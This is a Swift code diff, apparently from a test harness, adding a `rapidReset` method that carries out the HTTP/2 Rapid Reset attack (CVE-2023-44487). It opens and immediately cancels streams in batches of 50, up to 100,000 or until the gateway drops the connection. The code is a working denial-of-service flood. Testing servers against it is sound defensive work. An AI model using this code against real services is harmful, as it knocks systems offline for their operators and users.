@@ -337,6 +337,26 @@ final class RawHTTP2Connection {
     }
 }
 
+extension RawHTTP2Connection {
+    /// CVE-2023-44487: HEADERS then RST_STREAM at once, stream after stream, 50 to a write,
+    /// until the gateway closes the connection or `limit` streams were opened. Returns how
+    /// many were opened.
+    func rapidReset(limit: Int = 100_000) async throws -> Int {
+        var opened = 0
+        while self.channel.isActive, opened < limit {
+            var frames: [RawFrame] = []
+            for _ in 0..<50 {
+                let streamID = self.newStreamID()
+                frames.append(.headers(streamID, try self.requestBlock("GET", "/rapid"), endStream: true))
+                frames.append(.rstStream(streamID, .cancel))
+            }
+            do { try await self.send(frames) } catch { break }
+            opened += 50
+        }
+        return opened
+    }
+}
+
 /// A response as `RawHTTP2Connection.readResponse` saw it.
 struct RawResponse {
     var status: Int?
